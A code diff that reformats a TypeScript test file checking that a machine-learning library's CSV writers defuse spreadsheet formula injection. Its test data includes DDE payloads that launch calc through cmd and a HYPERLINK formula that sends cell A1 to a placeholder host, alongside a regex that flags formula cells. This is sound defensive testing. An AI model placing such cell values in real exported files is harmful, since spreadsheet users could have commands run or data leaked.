@@ -5,8 +5,21 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import test, { after } from 'node:test';
 import {
-  heightWeightCsv, historyCsv, mergeParts, perPhoto, Random, readHistory, readTable, readVectors, UNTOUCHED, writePart,
-  writeRaceTable, writeTable, writeVectors, type RaceRun, type Trial,
+  heightWeightCsv,
+  historyCsv,
+  mergeParts,
+  perPhoto,
+  Random,
+  readHistory,
+  readTable,
+  readVectors,
+  UNTOUCHED,
+  writePart,
+  writeRaceTable,
+  writeTable,
+  writeVectors,
+  type RaceRun,
+  type Trial,
 } from 'descent-lab';
 import { readFrame, recordsOf } from '../lib/src/data/frame';
 import { csvOf, unguarded } from '../lib/src/data/write-csv';
@@ -16,10 +29,37 @@ const folder = mkdtempSync(join(tmpdir(), 'csv-'));
 after(() => rmSync(folder, { recursive: true }));
 
 /** What a spreadsheet would run, and what is hard to read back. */
-const texts = ['=cmd|calc/cat.1.jpg', '=HYPERLINK("http://host.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3',
-  '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠x', '=1,2', '"=1+1"', '\'=1+1',
-  '\'\'=1+1', '\'-5', '-x', '--5', 'cat/a "b", c.jpg', 'two\nlines', 'x=1', 'it\'s', '\'', 'dog/-1.jpg', '-5', '1e-7',
-  'ä €'];
+const texts = [
+  '=cmd|calc/cat.1.jpg',
+  '=HYPERLINK("http://host.example?"&A1,"x")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '=1,2',
+  '"=1+1"',
+  "'=1+1",
+  "''=1+1",
+  "'-5",
+  '-x',
+  '--5',
+  'cat/a "b", c.jpg',
+  'two\nlines',
+  'x=1',
+  "it's",
+  "'",
+  'dog/-1.jpg',
+  '-5',
+  '1e-7',
+  'ä €',
+];
 
 /** The cells of a CSV file as RFC 4180 reads them. */
 function cellsOf(text: string): string[][] {
@@ -33,32 +73,50 @@ function cellsOf(text: string): string[][] {
 }
 
 /** The cells that a spreadsheet would run. A number is none of them. */
-const formulae = (text: string): string[] => cellsOf(text).flat()
-  .filter((cell) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !Number.isFinite(Number(cell)));
+const formulae = (text: string): string[] =>
+  cellsOf(text)
+    .flat()
+    .filter((cell) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !Number.isFinite(Number(cell)));
 
 const NOTHING = { flipped: null, linf: null, l2: null, psnr: null, transfer: null };
 const trials = texts.flatMap((text, index): Trial[] => {
   const photo = { index, photo: `${text}.jpg`, truth: text, label: text };
-  return [{ ...photo, attack: UNTOUCHED, epsilon: 0, ...NOTHING },
-    { ...photo, attack: 'fgsm', epsilon: 1 / 255, flipped: true, linf: 1 / 255, l2: 0.5, psnr: 40, transfer: null }];
+  return [
+    { ...photo, attack: UNTOUCHED, epsilon: 0, ...NOTHING },
+    { ...photo, attack: 'fgsm', epsilon: 1 / 255, flipped: true, linf: 1 / 255, l2: 0.5, psnr: 40, transfer: null },
+  ];
 });
 const plan = [{ attack: 'fgsm', epsilon: 1 / 255 }];
 const evaluation = { trials, plan, classes: texts, run: texts[0]! };
 
 test('no table that is written has a cell that a spreadsheet runs', () => {
-  const runs = texts.map((optimizer) =>
-    ({ optimizer, trajectory: [[-1.5, 2], [0, -0]], losses: [-3, 1e-9] })) as unknown as RaceRun[];
+  const runs = texts.map((optimizer) => ({
+    optimizer,
+    trajectory: [
+      [-1.5, 2],
+      [0, -0],
+    ],
+    losses: [-3, 1e-9],
+  })) as unknown as RaceRun[];
   const rows = texts.map((text, i) => ({ [text]: text, number: -i, nothing: null }));
   const writers: Record<string, (path: string) => void> = {
     'a race': (path) => writeRaceTable(path, runs),
     'the tables of races': (path) =>
-      writeRaceRows(path, ['text', 'number'], texts.map((text) => ({ text, number: -1.23456789 }))),
+      writeRaceRows(
+        path,
+        ['text', 'number'],
+        texts.map((text) => ({ text, number: -1.23456789 })),
+      ),
     'an evaluation': (path) => writeTable(path, rows),
     'a row a photo': (path) => writeTable(path, perPhoto(trials, texts)),
     'a part': (path) => writePart(path, evaluation, { index: 1, count: 1 }),
-    'vectors': (path) => writeVectors(path, [[-0.6, 0.8], [0, -1]]),
+    vectors: (path) =>
+      writeVectors(path, [
+        [-0.6, 0.8],
+        [0, -1],
+      ]),
     'a history': (path) => writeFileSync(path, historyCsv([{ epoch: 1, loss: -0.5, accuracy: 0.5 }])),
-    'the article\'s data': (path) => writeFileSync(path, heightWeightCsv(new Random(1))),
+    "the article's data": (path) => writeFileSync(path, heightWeightCsv(new Random(1))),
   };
   for (const [name, write] of Object.entries(writers)) {
     const path = join(folder, 'table.csv');
@@ -72,18 +130,32 @@ test('no table that is written has a cell that a spreadsheet runs', () => {
 
 test('texts are read back as they were, and numbers are never touched', () => {
   const path = join(folder, 'back.csv');
-  writeRaceRows(path, ['text', 'number'], texts.map((text, i) => ({ text, number: (1 - i) / 4 })));
+  writeRaceRows(
+    path,
+    ['text', 'number'],
+    texts.map((text, i) => ({ text, number: (1 - i) / 4 })),
+  );
   const isNumber = (text: string): boolean => text === '-5' || text === '1e-7';
-  assert.deepEqual(readTable(path),
-    texts.map((text, i) => ({ text: isNumber(text) ? Number(text) : text, number: (1 - i) / 4 })));
+  assert.deepEqual(
+    readTable(path),
+    texts.map((text, i) => ({ text: isNumber(text) ? Number(text) : text, number: (1 - i) / 4 })),
+  );
   assert.match(readFileSync(path, 'utf8'), /,-0\.25\n/);
   for (const text of texts) assert.equal(unguarded(cellsOf(csvOf([text], []))[0]![0]!), text);
-  const history = [{ epoch: 1, loss: 0.5, accuracy: 0.25 },
-    { epoch: 2, loss: 1e-9, accuracy: 1, testLoss: 2, testAccuracy: 0 }];
+  const history = [
+    { epoch: 1, loss: 0.5, accuracy: 0.25 },
+    { epoch: 2, loss: 1e-9, accuracy: 1, testLoss: 2, testAccuracy: 0 },
+  ];
   writeFileSync(path, historyCsv(history));
   assert.deepEqual(readHistory(path), history);
-  writeVectors(path, [[-0.6, 0.8], [0, -1]]);
-  assert.deepEqual(readVectors(path), [[-0.6, 0.8], [0, -1]]);
+  writeVectors(path, [
+    [-0.6, 0.8],
+    [0, -1],
+  ]);
+  assert.deepEqual(readVectors(path), [
+    [-0.6, 0.8],
+    [0, -1],
+  ]);
 });
 
 test('photos and classes with such names go through the parts of an evaluation, as CSV and as Parquet', () => {
@@ -97,8 +169,8 @@ test('photos and classes with such names go through the parts of an evaluation, 
     assert.deepEqual(mergeParts(files), { trials, plan }, ending);
   }
   const foreign = join(folder, 'foreign.csv');
-  writeFileSync(foreign, 'a\n\'=1\n');
-  assert.deepEqual(recordsOf(readFrame(foreign)), [{ a: '\'=1' }], 'a table of somebody else stays as it is');
+  writeFileSync(foreign, "a\n'=1\n");
+  assert.deepEqual(recordsOf(readFrame(foreign)), [{ a: "'=1" }], 'a table of somebody else stays as it is');
 });
 
 test('the tables in data/ would be written with the same bytes', () => {
